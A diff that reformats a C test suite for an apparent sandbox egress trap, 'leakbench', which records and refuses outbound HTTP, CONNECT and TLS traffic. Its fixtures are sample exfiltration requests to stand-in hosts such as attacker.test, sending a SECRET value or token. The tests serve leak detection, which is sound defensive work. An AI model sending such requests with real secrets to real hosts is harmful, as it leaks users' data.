@@ -34,34 +34,39 @@ static char tmpdir[256];
 /* ---- the head parser ---- */
 
 struct hcase {
-	const char	*name;
-	const char	*in;
-	long		 rc;	/* -1, 0, or 1 for "the whole input" */
-	const char	*method, *target, *version;
-	int		 nheaders;
-	long long	 clen;
-	int		 chunked, close;
+	const char *name;
+	const char *in;
+	long rc; /* -1, 0, or 1 for "the whole input" */
+	const char *method, *target, *version;
+	int nheaders;
+	long long clen;
+	int chunked, close;
 };
 
 static const struct hcase hcases[] = {
-	{ "absolute form", "GET http://a.test/p?q=1 HTTP/1.1\r\nHost: a.test"
-	    "\r\n\r\n", 1, "GET", "http://a.test/p?q=1", "HTTP/1.1", 1, 0, 0,
-	    0 },
+	{ "absolute form",
+	    "GET http://a.test/p?q=1 HTTP/1.1\r\nHost: a.test"
+	    "\r\n\r\n",
+	    1, "GET", "http://a.test/p?q=1", "HTTP/1.1", 1, 0, 0, 0 },
 	{ "CONNECT", "CONNECT a.test:443 HTTP/1.1\r\n\r\n", 1, "CONNECT",
 	    "a.test:443", "HTTP/1.1", 0, 0, 0, 0 },
 	{ "origin form, HTTP/1.0", "POST /x HTTP/1.0\nContent-Length: 12\n\n",
 	    1, "POST", "/x", "HTTP/1.0", 1, 12, 0, 1 },
 	{ "no version", "GET /\r\n\r\n", 1, "GET", "/", NULL, 0, 0, 0, 1 },
-	{ "chunked last", "POST / HTTP/1.1\r\nTransfer-Encoding: gzip, "
-	    "chunked\r\nContent-Length: 4\r\n\r\n", 1, "POST", "/",
-	    "HTTP/1.1", 2, -1, 1, 0 },
-	{ "unknown coding", "POST / HTTP/1.1\r\nTransfer-Encoding: gzip\r\n"
-	    "\r\n", 1, "POST", "/", "HTTP/1.1", 1, -2, 0, 1 },
+	{ "chunked last",
+	    "POST / HTTP/1.1\r\nTransfer-Encoding: gzip, "
+	    "chunked\r\nContent-Length: 4\r\n\r\n",
+	    1, "POST", "/", "HTTP/1.1", 2, -1, 1, 0 },
+	{ "unknown coding",
+	    "POST / HTTP/1.1\r\nTransfer-Encoding: gzip\r\n"
+	    "\r\n",
+	    1, "POST", "/", "HTTP/1.1", 1, -2, 0, 1 },
 	{ "bad length", "POST / HTTP/1.1\r\nContent-Length: 1x\r\n\r\n", 1,
 	    "POST", "/", "HTTP/1.1", 1, -2, 0, 1 },
-	{ "folded, odd lines kept raw", "GET / HTTP/1.1\r\nA: b\r\n c\r\n"
-	    "no colon\r\nConnection: close\r\n\r\n", 1, "GET", "/",
-	    "HTTP/1.1", 2, 0, 0, 1 },
+	{ "folded, odd lines kept raw",
+	    "GET / HTTP/1.1\r\nA: b\r\n c\r\n"
+	    "no colon\r\nConnection: close\r\n\r\n",
+	    1, "GET", "/", "HTTP/1.1", 2, 0, 0, 1 },
 	{ "8-bit target", "GET /caf\xc3\xa9\x01 HTTP/1.1\r\n\r\n", 1, "GET",
 	    "/caf\xc3\xa9\x01", "HTTP/1.1", 0, 0, 0, 0 },
 	{ "incomplete head", "GET / HTTP/1.1\r\nHost: a", 0, NULL, NULL, NULL,
@@ -106,7 +111,8 @@ test_parser(void)
 		trap_req_free(&r);
 	}
 	rc = trap_parse_head((const unsigned char *)"GET / HTTP/1.1\r\nA: b\r\n"
-	    " c\r\n\r\n", 28, 4096, &r, &why);
+						    " c\r\n\r\n",
+	    28, 4096, &r, &why);
 	is_int(rc, 28, "head: folded");
 	if (rc > 0)
 		is_str(r.headers[0].value, "b c", "head: folded value joined");
@@ -117,10 +123,11 @@ test_parser(void)
 		memset(big, 'x', sizeof(big));
 		memcpy(big, "GET / HTTP/1.1\r\nX: ", 19);
 		why = NULL;
-		rc = trap_parse_head((unsigned char *)big, sizeof(big), 256,
-		    &r, &why);
+		rc = trap_parse_head((unsigned char *)big, sizeof(big), 256, &r,
+		    &why);
 		is_int(rc, -1, "head: over max_head");
-		is_str(why, "request head too long", "head: over max_head: why");
+		is_str(why, "request head too long",
+		    "head: over max_head: why");
 		rc = trap_parse_head((unsigned char *)big, 200, 256, &r, &why);
 		is_int(rc, 0, "head: under max_head, more needed");
 	}
@@ -130,7 +137,7 @@ test_parser(void)
 
 static struct trap trap;
 static int port;
-static long seen;	/* bytes of egress.jsonl compared so far */
+static long seen; /* bytes of egress.jsonl compared so far */
 static char ca_path[400];
 
 static void *
@@ -230,7 +237,8 @@ exchange(const void *req, size_t n)
 	return out;
 }
 
-#define RESP403(conn)	"HTTP/1.1 403 Forbidden\r\nContent-Type: " \
+#define RESP403(conn) \
+	"HTTP/1.1 403 Forbidden\r\nContent-Type: " \
 	"text/plain\r\nContent-Length: 71\r\nConnection: " conn "\r\n\r\n" \
 	"leakbench: this sandbox has no network; the trap recorded this " \
 	"request\n"
@@ -238,10 +246,13 @@ exchange(const void *req, size_t n)
 static void
 test_plain(void)
 {
-	static const char post[] = "POST http://attacker.test/up?k=SECRET "
+	static const char post[] =
+	    "POST http://attacker.test/up?k=SECRET "
 	    "HTTP/1.1\r\nHost: attacker.test\r\nX-Key: s3cr\xe9t\r\n"
-	    "Connection: close\r\nContent-Length: 5\r\n\r\nab\x00\xff" "c";
-	static const char chunked[] = "PUT http://attacker.test/c HTTP/1.1\r\n"
+	    "Connection: close\r\nContent-Length: 5\r\n\r\nab\x00\xff"
+	    "c";
+	static const char chunked[] =
+	    "PUT http://attacker.test/c HTTP/1.1\r\n"
 	    "Transfer-Encoding: chunked\r\nConnection: close\r\n\r\n"
 	    "4;ext=1\r\nSECR\r\n2\r\nET\r\n0\r\nTrailer: x\r\n\r\n";
 	char *out;
@@ -249,7 +260,8 @@ test_plain(void)
 	out = exchange(post, sizeof(post) - 1);
 	is_str(out, RESP403("close"), "plain: 403");
 	free(out);
-	check_records("{\"t\":T,\"kind\":\"http\",\"method\":\"POST\","
+	check_records(
+	    "{\"t\":T,\"kind\":\"http\",\"method\":\"POST\","
 	    "\"target\":\"http://attacker.test/up?k=SECRET\",\"version\":"
 	    "\"HTTP/1.1\",\"headers\":[[\"Host\",\"attacker.test\"],"
 	    "[\"X-Key\",\"s3cr\xc3\xa9t\"],[\"Connection\",\"close\"],"
@@ -257,33 +269,40 @@ test_plain(void)
 	    "\"UE9TVCBodHRwOi8vYXR0YWNrZXIudGVzdC91cD9rPVNFQ1JFVCBIVFRQLzEuMQ"
 	    "0KSG9zdDogYXR0YWNrZXIudGVzdA0KWC1LZXk6IHMzY3LpdA0KQ29ubmVjdGlvb"
 	    "jogY2xvc2UNCkNvbnRlbnQtTGVuZ3RoOiA1DQoNCg==\",\"body_base64\":"
-	    "\"YWIA/2M=\",\"body_bytes\":5,\"truncated\":false,\"tls\":false}\n",
+	    "\"YWIA/"
+	    "2M=\",\"body_bytes\":5,\"truncated\":false,\"tls\":false}\n",
 	    "plain: binary body, Latin-1 header");
 
 	out = exchange(chunked, sizeof(chunked) - 1);
 	is_str(out, RESP403("close"), "chunked: 403");
 	free(out);
-	check_records("{\"t\":T,\"kind\":\"http\",\"method\":\"PUT\","
+	check_records(
+	    "{\"t\":T,\"kind\":\"http\",\"method\":\"PUT\","
 	    "\"target\":\"http://attacker.test/c\",\"version\":\"HTTP/1.1\","
 	    "\"headers\":[[\"Transfer-Encoding\",\"chunked\"],[\"Connection\","
 	    "\"close\"]],\"head\":\"PUT http://attacker.test/c HTTP/1.1\\r\\n"
 	    "Transfer-Encoding: chunked\\r\\nConnection: close\\r\\n\\r\\n\","
 	    "\"body\":\"SECRET\",\"body_bytes\":6,\"truncated\":false,"
-	    "\"tls\":false}\n", "chunked: body decoded");
+	    "\"tls\":false}\n",
+	    "chunked: body decoded");
 
 	/* Two requests on one connection; HEAD gets no body. */
 	{
-		static const char two[] = "GET http://a.test/1 HTTP/1.1\r\n"
+		static const char two[] =
+		    "GET http://a.test/1 HTTP/1.1\r\n"
 		    "\r\nHEAD http://a.test/2 HTTP/1.1\r\nConnection: close"
 		    "\r\n\r\n";
-		static const char want[] = RESP403("keep-alive")
-		    "HTTP/1.1 403 Forbidden\r\nContent-Type: text/plain\r\n"
-		    "Content-Length: 71\r\nConnection: close\r\n\r\n";
+		static const char want[] = RESP403(
+		    "keep-alive") "HTTP/1.1 403 Forbidden\r\nContent-Type: "
+				  "text/plain\r\n"
+				  "Content-Length: 71\r\nConnection: "
+				  "close\r\n\r\n";
 
 		out = exchange(two, sizeof(two) - 1);
 		is_str(out, want, "keep-alive: two answers");
 		free(out);
-		check_records("{\"t\":T,\"kind\":\"http\",\"method\":\"GET\","
+		check_records(
+		    "{\"t\":T,\"kind\":\"http\",\"method\":\"GET\","
 		    "\"target\":\"http://a.test/1\",\"version\":\"HTTP/1.1\","
 		    "\"headers\":[],\"head\":\"GET http://a.test/1 HTTP/1.1"
 		    "\\r\\n\\r\\n\",\"body\":\"\",\"body_bytes\":0,"
@@ -293,7 +312,8 @@ test_plain(void)
 		    "\"headers\":[[\"Connection\",\"close\"]],\"head\":\"HEAD "
 		    "http://a.test/2 HTTP/1.1\\r\\nConnection: close\\r\\n"
 		    "\\r\\n\",\"body\":\"\",\"body_bytes\":0,\"truncated\":"
-		    "false,\"tls\":false}\n", "keep-alive");
+		    "false,\"tls\":false}\n",
+		    "keep-alive");
 	}
 
 	/* A body over the cap (32 bytes here): kept up to it, counted. */
@@ -301,13 +321,15 @@ test_plain(void)
 		char req[256];
 		int n;
 
-		n = snprintf(req, sizeof(req), "POST /direct HTTP/1.1\r\n"
+		n = snprintf(req, sizeof(req),
+		    "POST /direct HTTP/1.1\r\n"
 		    "Content-Length: 40\r\nConnection: close\r\n\r\n%s",
 		    "0123456789abcdefghijklmnopqrstuvwxyzABCD");
 		out = exchange(req, (size_t)n);
 		is_str(out, RESP403("close"), "over the cap: 403");
 		free(out);
-		check_records("{\"t\":T,\"kind\":\"http\",\"method\":\"POST\","
+		check_records(
+		    "{\"t\":T,\"kind\":\"http\",\"method\":\"POST\","
 		    "\"target\":\"/direct\",\"version\":\"HTTP/1.1\","
 		    "\"headers\":[[\"Content-Length\",\"40\"],[\"Connection\","
 		    "\"close\"]],\"head\":\"POST /direct HTTP/1.1\\r\\n"
@@ -319,7 +341,8 @@ test_plain(void)
 
 	/* Expect: 100-continue gets its 100, the body is recorded. */
 	{
-		static const char head[] = "POST http://a.test/e HTTP/1.1\r\n"
+		static const char head[] =
+		    "POST http://a.test/e HTTP/1.1\r\n"
 		    "Expect: 100-continue\r\nContent-Length: 3\r\n"
 		    "Connection: close\r\n\r\n";
 		struct pollfd p;
@@ -347,7 +370,7 @@ test_plain(void)
 	/* A head that trickles in, a byte at a time. */
 	{
 		static const char req[] = "GET http://slow.test/ HTTP/1.1\r\n"
-		    "Connection: close\r\n\r\n";
+					  "Connection: close\r\n\r\n";
 		int fd = dial();
 
 		for (size_t i = 0; i < sizeof(req) - 1; i++) {
@@ -373,8 +396,10 @@ test_plain(void)
 		    "junk: 400");
 		free(out);
 		check_records("{\"t\":T,\"kind\":\"http\",\"head\":\"\\u0001"
-		    "\\u0002 hello\\r\\n\\r\\n\",\"tls\":false,\"error\":"
-		    "\"not an HTTP request\"}\n", "junk");
+			      "\\u0002 "
+			      "hello\\r\\n\\r\\n\",\"tls\":false,\"error\":"
+			      "\"not an HTTP request\"}\n",
+		    "junk");
 	}
 
 	/* A head cut short by the client, and a body cut short. */
@@ -388,23 +413,29 @@ test_plain(void)
 		free(out);
 		close(fd);
 		check_records("{\"t\":T,\"kind\":\"http\",\"head\":\"GET "
-		    "http://x.test/SECRET HTT\",\"tls\":false,\"error\":"
-		    "\"request head cut short\"}\n", "head cut short");
+			      "http://x.test/SECRET "
+			      "HTT\",\"tls\":false,\"error\":"
+			      "\"request head cut short\"}\n",
+		    "head cut short");
 
 		fd = dial();
-		(void)http_write_all(fd, "POST /b HTTP/1.1\r\nContent-Length: "
-		    "10\r\n\r\nSECR", 44);
+		(void)http_write_all(fd,
+		    "POST /b HTTP/1.1\r\nContent-Length: "
+		    "10\r\n\r\nSECR",
+		    44);
 		shutdown(fd, SHUT_WR);
 		out = read_all(fd);
 		is_str(out, RESP403("close"), "body cut short: 403");
 		free(out);
 		close(fd);
-		check_records("{\"t\":T,\"kind\":\"http\",\"method\":\"POST\","
+		check_records(
+		    "{\"t\":T,\"kind\":\"http\",\"method\":\"POST\","
 		    "\"target\":\"/b\",\"version\":\"HTTP/1.1\",\"headers\":"
 		    "[[\"Content-Length\",\"10\"]],\"head\":\"POST /b HTTP/1.1"
 		    "\\r\\nContent-Length: 10\\r\\n\\r\\n\",\"body\":\"SECR\","
 		    "\"body_bytes\":4,\"truncated\":false,\"tls\":false,"
-		    "\"error\":\"body cut short\"}\n", "body cut short");
+		    "\"error\":\"body cut short\"}\n",
+		    "body cut short");
 	}
 }
 
@@ -412,7 +443,7 @@ static void
 test_tunnel(void)
 {
 	static const char req[] = "CONNECT db.attacker.test:5432 HTTP/1.1\r\n"
-	    "Host: db.attacker.test:5432\r\n\r\n";
+				  "Host: db.attacker.test:5432\r\n\r\n";
 	int fd = dial();
 	char *out;
 
@@ -424,30 +455,38 @@ test_tunnel(void)
 	    "tunnel: 200");
 	free(out);
 	close(fd);
-	check_records("{\"t\":T,\"kind\":\"connect\",\"target\":"
+	check_records(
+	    "{\"t\":T,\"kind\":\"connect\",\"target\":"
 	    "\"db.attacker.test:5432\",\"head\":\"CONNECT db.attacker.test:5432"
 	    " HTTP/1.1\\r\\nHost: db.attacker.test:5432\\r\\n\\r\\n\"}\n"
-	    "{\"t\":T,\"kind\":\"tunnel\",\"connect\":\"db.attacker.test:5432\","
+	    "{\"t\":T,\"kind\":\"tunnel\",\"connect\":\"db.attacker.test:"
+	    "5432\","
 	    "\"data_base64\":\"AAAACFNFQ1JFVP8=\",\"data_bytes\":11,"
-	    "\"truncated\":false}\n", "tunnel: first bytes");
+	    "\"truncated\":false}\n",
+	    "tunnel: first bytes");
 
 	/* Plain HTTP inside a tunnel. */
 	{
-		static const char in[] = "CONNECT a.test:80 HTTP/1.1\r\n\r\n"
+		static const char in[] =
+		    "CONNECT a.test:80 HTTP/1.1\r\n\r\n"
 		    "GET /in HTTP/1.1\r\nConnection: close\r\n\r\n";
 
 		out = exchange(in, sizeof(in) - 1);
-		is_str(out, "HTTP/1.1 200 Connection established\r\n\r\n"
-		    RESP403("close"), "http in a tunnel: 200 then 403");
+		is_str(out,
+		    "HTTP/1.1 200 Connection established\r\n\r\n" RESP403(
+			"close"),
+		    "http in a tunnel: 200 then 403");
 		free(out);
-		check_records("{\"t\":T,\"kind\":\"connect\",\"target\":"
+		check_records(
+		    "{\"t\":T,\"kind\":\"connect\",\"target\":"
 		    "\"a.test:80\",\"head\":\"CONNECT a.test:80 HTTP/1.1\\r\\n"
 		    "\\r\\n\"}\n{\"t\":T,\"kind\":\"http\",\"method\":\"GET\","
 		    "\"target\":\"/in\",\"version\":\"HTTP/1.1\",\"headers\":"
 		    "[[\"Connection\",\"close\"]],\"head\":\"GET /in HTTP/1.1"
 		    "\\r\\nConnection: close\\r\\n\\r\\n\",\"body\":\"\","
 		    "\"body_bytes\":0,\"truncated\":false,\"tls\":false,"
-		    "\"connect\":\"a.test:80\"}\n", "http in a tunnel");
+		    "\"connect\":\"a.test:80\"}\n",
+		    "http in a tunnel");
 	}
 }
 
@@ -503,13 +542,15 @@ connect_through(const char *target)
 {
 	char req[300], buf[64];
 	static const char ok200[] = "HTTP/1.1 200 Connection established"
-	    "\r\n\r\n";
+				    "\r\n\r\n";
 	int fd = dial(), n;
 	size_t got = 0;
 	ssize_t r;
 
-	n = snprintf(req, sizeof(req), "CONNECT %s HTTP/1.1\r\nHost: %s\r\n"
-	    "\r\n", target, target);
+	n = snprintf(req, sizeof(req),
+	    "CONNECT %s HTTP/1.1\r\nHost: %s\r\n"
+	    "\r\n",
+	    target, target);
 	(void)http_write_all(fd, req, (size_t)n);
 	while (got < sizeof(ok200) - 1 &&
 	    (r = read(fd, buf + got, sizeof(ok200) - 1 - got)) > 0)
@@ -525,7 +566,8 @@ connect_through(const char *target)
 static void
 test_tls(void)
 {
-	static const char post[] = "POST /v1/upload?token=SECRET HTTP/1.1\r\n"
+	static const char post[] =
+	    "POST /v1/upload?token=SECRET HTTP/1.1\r\n"
 	    "Host: api.attacker.test\r\nContent-Length: 6\r\n"
 	    "Connection: close\r\n\r\nSECRET";
 	SSL_CTX *ctx;
@@ -547,7 +589,8 @@ test_tls(void)
 	}
 	SSL_CTX_free(ctx);
 	close(fd);
-	check_records("{\"t\":T,\"kind\":\"connect\",\"target\":"
+	check_records(
+	    "{\"t\":T,\"kind\":\"connect\",\"target\":"
 	    "\"api.attacker.test:443\",\"head\":\"CONNECT api.attacker.test:443"
 	    " HTTP/1.1\\r\\nHost: api.attacker.test:443\\r\\n\\r\\n\"}\n"
 	    "{\"t\":T,\"kind\":\"http\",\"method\":\"POST\",\"target\":"
@@ -574,8 +617,10 @@ test_tls(void)
 	SSL_CTX_free(ctx);
 	close(fd);
 	out = new_records();
-	ok(strstr(out, "\"tls\":true,\"sni\":null,\"connect\":"
-	    "\"192.0.2.7:8443\"}\n") != NULL, "tls ip: recorded without sni");
+	ok(strstr(out,
+	       "\"tls\":true,\"sni\":null,\"connect\":"
+	       "\"192.0.2.7:8443\"}\n") != NULL,
+	    "tls ip: recorded without sni");
 	free(out);
 
 	/* A client that does not trust the CA: the attempt is recorded. */
@@ -586,7 +631,8 @@ test_tls(void)
 	out = read_all(fd);
 	free(out);
 	close(fd);
-	check_records("{\"t\":T,\"kind\":\"connect\",\"target\":"
+	check_records(
+	    "{\"t\":T,\"kind\":\"connect\",\"target\":"
 	    "\"pinned.attacker.test:443\",\"head\":\"CONNECT pinned.attacker."
 	    "test:443 HTTP/1.1\\r\\nHost: pinned.attacker.test:443\\r\\n\\r\\n"
 	    "\"}\n{\"t\":T,\"kind\":\"tls\",\"connect\":\"pinned.attacker."
@@ -610,8 +656,10 @@ test_tls(void)
 	SSL_CTX_free(ctx);
 	close(fd);
 	out = new_records();
-	ok(strstr(out, "\"tls\":true,\"sni\":\"direct.attacker.test\","
-	    "\"connect\":\"\"}\n") != NULL, "direct tls: recorded");
+	ok(strstr(out,
+	       "\"tls\":true,\"sni\":\"direct.attacker.test\","
+	       "\"connect\":\"\"}\n") != NULL,
+	    "direct tls: recorded");
 	free(out);
 }
 
@@ -638,7 +686,8 @@ test_certs(void)
 	sc = X509_STORE_CTX_new();
 	X509_STORE_CTX_init(sc, st, a, NULL);
 	X509_STORE_CTX_set_purpose(sc, X509_PURPOSE_SSL_SERVER);
-	is_int(X509_verify_cert(sc), 1, "leaf: verifies as a TLS server "
+	is_int(X509_verify_cert(sc), 1,
+	    "leaf: verifies as a TLS server "
 	    "against ca.pem");
 	X509_STORE_CTX_free(sc);
 	X509_STORE_free(st);
@@ -659,7 +708,8 @@ test_certs(void)
 	got[n] = '\0';
 	ok(strncmp(got, "SYSTEM CA\n-----BEGIN CERTIFICATE-----\n", 38) == 0,
 	    "bundle.pem: the system bundle, a newline added, then the CA");
-	is_str(got + 10, trap_tls_ca_pem(trap.tls), "bundle.pem: ends with "
+	is_str(got + 10, trap_tls_ca_pem(trap.tls),
+	    "bundle.pem: ends with "
 	    "ca.pem");
 	ok(strstr(got, "PRIVATE") == NULL, "bundle.pem: no key");
 	free(got);
@@ -671,8 +721,10 @@ test_certs(void)
 		snprintf(path, sizeof(path), "%s/ca/ca.pem/x", tmpdir);
 		is_int(trap_tls_write(trap.tls, path, NULL, err, sizeof(err)),
 		    -1, "ca-out under a file fails");
-		snprintf(want, sizeof(want), "cannot create directory '%s': "
-		    "not a directory", path);
+		snprintf(want, sizeof(want),
+		    "cannot create directory '%s': "
+		    "not a directory",
+		    path);
 		is_str(err, want, "ca-out under a file: message");
 	}
 }
@@ -685,7 +737,7 @@ test_busy(void)
 
 	trap.lim.max_conns = 1;
 	hold = dial();
-	(void)http_write_all(hold, "G", 1);	/* being served now */
+	(void)http_write_all(hold, "G", 1); /* being served now */
 	poll(NULL, 0, 200);
 	fd = dial();
 	out = read_all(fd);
@@ -695,8 +747,8 @@ test_busy(void)
 	close(hold);
 	poll(NULL, 0, 200);
 	out = new_records();
-	ok(strstr(out, "{\"t\":T,\"kind\":\"busy\",\"max_conns\":1}\n") !=
-	    NULL, "busy: recorded");
+	ok(strstr(out, "{\"t\":T,\"kind\":\"busy\",\"max_conns\":1}\n") != NULL,
+	    "busy: recorded");
 	free(out);
 	trap.lim.max_conns = 8;
 }
@@ -722,8 +774,10 @@ test_idle(void)
 	free(out);
 	close(fd);
 	check_records("{\"t\":T,\"kind\":\"http\",\"head\":\"GET "
-	    "http://idle.test/SECRET\",\"tls\":false,\"error\":\"request "
-	    "head cut short\"}\n", "idle: what came is recorded");
+		      "http://idle.test/"
+		      "SECRET\",\"tls\":false,\"error\":\"request "
+		      "head cut short\"}\n",
+	    "idle: what came is recorded");
 	trap.lim.idle_ms = 3000;
 }
 
@@ -751,11 +805,13 @@ main(void)
 		return 1;
 	test_parser();
 
-	trap.lim = (struct trap_limits){ .max_conns = 8, .idle_ms = 3000,
-	    .head_ms = 5000, .body_cap = 32, .max_head = 4096 };
+	trap.lim = (struct trap_limits){ .max_conns = 8,
+		.idle_ms = 3000,
+		.head_ms = 5000,
+		.body_cap = 32,
+		.max_head = 4096 };
 	snprintf(path, sizeof(path), "%s/rec", tmpdir);
-	if (trap_log_open(&trap.log, path, 1000, 1 << 24, err,
-	    sizeof(err)) < 0)
+	if (trap_log_open(&trap.log, path, 1000, 1 << 24, err, sizeof(err)) < 0)
 		return 1;
 	trap.tls = trap_tls_new(err, sizeof(err));
 	ok(trap.tls != NULL, "CA made (%s)", trap.tls ? "" : err);
